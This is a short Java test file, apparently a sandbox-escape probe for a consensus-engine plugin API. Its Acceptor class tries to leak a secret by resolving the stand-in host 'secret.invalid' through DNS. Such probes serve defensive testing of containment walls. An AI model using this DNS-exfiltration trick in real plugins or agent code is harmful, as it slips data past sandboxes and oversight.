// wall: verifier method
// tries: to tell a secret to a name server
import dev.faultline.api.*;
import dev.faultline.engine.consensus.api.*;

public class AskForAName implements Acceptor {

  private void attack(Context context) throws Exception {
    java.net.InetAddress.getByName("secret.invalid");
    throw new IllegalStateException("through");
  }

  public void start(Context context) {
    try {
      attack(context);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  public void onPrepare(NodeId from, Prepare prepare, Context context) {}

  public void onAccept(NodeId from, Accept accept, Context context) {}
}
